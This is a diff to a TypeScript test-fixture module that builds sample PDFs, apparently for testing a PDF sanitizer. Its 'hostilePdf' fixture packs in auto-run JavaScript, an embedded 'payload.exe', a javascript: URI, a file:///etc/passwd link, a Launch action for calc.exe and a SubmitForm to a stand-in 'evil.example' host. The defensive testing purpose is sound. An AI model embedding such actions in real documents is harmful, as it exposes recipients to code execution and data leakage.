@@ -6,7 +6,6 @@ import {
   PDFString,
   StandardFonts,
   type EncryptionAlgorithm,
-  type PDFDict,
   type PDFObject,
 } from "@cantoo/pdf-lib";
 
@@ -60,68 +59,57 @@ export async function undrawnForm(name: string): Promise<Uint8Array> {
 export async function hostilePdf(): Promise<Uint8Array> {
   const document = await filledForm("Amy Adams");
   const { context, catalog } = document;
+  const text = (value: string) => PDFString.of(value);
+  const uri = (address: string) => ({ S: "URI", URI: text(address) });
+  const streamOf = (content: string) =>
+    context.register(context.stream(content));
   document.setAuthor("Secret Author");
   await document.attach(Buffer.from("attached"), "payload.exe");
   document.addJavaScript("names", "app.alert('names')");
-  const script = { S: "JavaScript", JS: PDFString.of("app.alert('open')") };
+  const script = { S: "JavaScript", JS: text("app.alert('open')") };
   catalog.set(PDFName.of("OpenAction"), context.obj(script));
   catalog.set(PDFName.of("AA"), context.obj({ WC: script }));
-  catalog.set(
-    PDFName.of("URI"),
-    context.obj({ Base: pdfString("http://base/") }),
-  );
+  catalog.set(PDFName.of("URI"), context.obj({ Base: text("http://base/") }));
   const form = catalog.getAcroForm()?.dict;
-  form?.set(PDFName.of("XFA"), context.register(context.stream("<xdp:xdp/>")));
+  form?.set(PDFName.of("XFA"), streamOf("<xdp:xdp/>"));
 
   const page = document.getPage(0).node;
+  const about = streamOf("<x:xmpmeta>Secret</x:xmpmeta>");
   page.set(PDFName.of("AA"), context.obj({ O: script }));
-  const about = context.register(
-    context.stream("<x:xmpmeta>Secret</x:xmpmeta>"),
-  );
   page.set(PDFName.of("Metadata"), about);
-  const add = (entries: Record<string, unknown>) =>
-    page.addAnnot(context.register(annotation(document, entries)));
   const next = { S: "Named", N: "NextPage" };
-  add({
-    A: { S: "URI", URI: pdfString("https://college.example/"), Next: next },
-  });
-  add({ A: { S: "URI", URI: pdfString("mailto:office@college.example") } });
-  add({ A: { S: "URI", URI: pdfString("javascript:alert(1)") } });
-  add({ A: { S: "URI", URI: pdfString("file:///etc/passwd") } });
-  add({ A: { S: "Launch", F: pdfString("calc.exe") } });
-  add({ A: { S: "GoToR", F: pdfString("other.pdf") } });
-  add({ A: { S: "SubmitForm", F: pdfString("http://evil.example/") } });
-  add({ A: { S: "Named", N: "Print" } });
-  add({
-    A: script,
-    PA: { S: "URI", URI: pdfString("http://previous.example/") },
-  });
-  const content = context.obj({ Assets: { Names: [] } });
-  add({ Subtype: "RichMedia", RichMediaContent: content });
-  const file = { Type: "Filespec", F: pdfString("a.exe"), EF: { F: about } };
-  add({ Subtype: "FileAttachment", FS: file });
-  add({
-    Subtype: "Screen",
-    A: { S: "Rendition", JS: pdfString("app.alert(2)") },
-  });
+  const file = { Type: "Filespec", F: text("a.exe"), EF: { F: about } };
+  const media = { Assets: { Names: [] } };
+  const alert = { S: "Rendition", JS: text("app.alert(2)") };
+  for (const entries of [
+    { A: { ...uri("https://college.example/"), Next: next } },
+    { A: uri("mailto:office@college.example") },
+    { A: uri("javascript:alert(1)") },
+    { A: uri("file:///etc/passwd") },
+    { A: { S: "Launch", F: text("calc.exe") } },
+    { A: { S: "GoToR", F: text("other.pdf") } },
+    { A: { S: "SubmitForm", F: text("http://evil.example/") } },
+    { A: { S: "Named", N: "Print" } },
+    { A: script, PA: uri("http://previous.example/") },
+    { Subtype: "RichMedia", RichMediaContent: context.obj(media) },
+    { Subtype: "FileAttachment", FS: file },
+    { Subtype: "Screen", A: alert },
+  ]) {
+    annotate(document, entries);
+  }
   // Otherwise the library would redraw the form and remove the XFA.
   return document.save({ updateFieldAppearances: false });
 }
 
-function pdfString(value: string) {
-  return PDFString.of(value);
-}
-
-function annotation(
-  { context }: PDFDocument,
-  entries: Record<string, unknown>,
-): PDFDict {
-  return context.obj({
+/** Adds an annotation to the first page: a link, unless its entries say otherwise. */
+function annotate(document: PDFDocument, entries: Record<string, unknown>) {
+  const annotation = document.context.obj({
     Type: "Annot",
     Subtype: "Link",
     Rect: [72, 400, 200, 420],
     ...(entries as Record<string, PDFObject>),
   });
+  document.getPage(0).node.addAnnot(document.context.register(annotation));
 }
 
 /** Creates a PDF that needs the password `user` to be read, or, without it, only forbids some actions. */
@@ -150,10 +138,7 @@ export async function pdfThat(
   ) => Promise<void> | void,
 ): Promise<Uint8Array> {
   const document = await documentWith(content);
-  await change(document, (entries) => {
-    const added = document.context.register(annotation(document, entries));
-    document.getPage(0).node.addAnnot(added);
-  });
+  await change(document, (entries) => annotate(document, entries));
   return document.save({ updateFieldAppearances: false });
 }
 
@@ -202,6 +187,16 @@ export function packedStream(
   ]);
 }
 
+/** Returns a stream object for `rawPdf` as it is. */
+export function plainStream(content: string, entries = ""): string {
+  return `<< ${entries} /Length ${content.length} >>\nstream\n${content}\nendstream`;
+}
+
+/** Returns a page on Letter paper for `rawPdf`, whose tree is object 2. */
+export function pageObject(entries = ""): string {
+  return `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] ${entries} >>`;
+}
+
 /** Entries of a page that shows a square, without an object of its own. */
 export const SQUARE =
   "/Annots [<< /Type /Annot /Subtype /Square /Rect [9 9 99 99] /C [0] /F 4 >>]";
@@ -210,15 +205,23 @@ export const SQUARE =
 export const onePage = [
   "<< /Type /Catalog /Pages 2 0 R >>",
   "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] ${SQUARE} >>`,
+  pageObject(SQUARE),
 ] as const;
+
+/** Creates a handwritten PDF of one page with these entries, object 3, and more objects. */
+export function rawPageWith(
+  entries: string,
+  ...objects: (string | Uint8Array)[]
+): Uint8Array {
+  return rawPdf(onePage[0], onePage[1], pageObject(entries), ...objects);
+}
 
 /** Returns catalog, page tree and one page with this text for `rawPdf`. */
 export function rawPage(text: string): string[] {
   return [
     onePage[0],
     onePage[1],
-    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>",
+    pageObject("/Contents 4 0 R /Resources << /Font << /F 5 0 R >> >>"),
     textStream(text),
     "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
   ];
@@ -226,23 +229,19 @@ export function rawPage(text: string): string[] {
 
 /** Returns the content of a page for `rawPdf`. */
 export function textStream(text: string): string {
-  const content = `BT /F 14 Tf 72 700 Td (${text}) Tj ET`;
-  return `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;
+  return plainStream(`BT /F 14 Tf 72 700 Td (${text}) Tj ET`);
 }
 
 /** Creates two pages, the first with a link to the second and an external one; both tagged as parts of the document. */
 export async function linkedPdf(): Promise<Uint8Array> {
   const document = await documentWith("Contents", "Chapter");
   const [first, second] = document.getPages();
-  const links = [
+  for (const link of [
     { Dest: [second?.ref, "Fit"] },
     { A: { S: "GoTo", D: [second?.ref, "Fit"] } },
-    { A: { S: "URI", URI: pdfString("https://college.example/") } },
-  ];
-  for (const link of links) {
-    const entries = { ...link, P: first?.ref, StructParent: 0 };
-    const reference = document.context.register(annotation(document, entries));
-    first?.node.addAnnot(reference);
+    { A: { S: "URI", URI: PDFString.of("https://college.example/") } },
+  ]) {
+    annotate(document, { ...link, P: first?.ref, StructParent: 0 });
   }
   return document.save();
 }
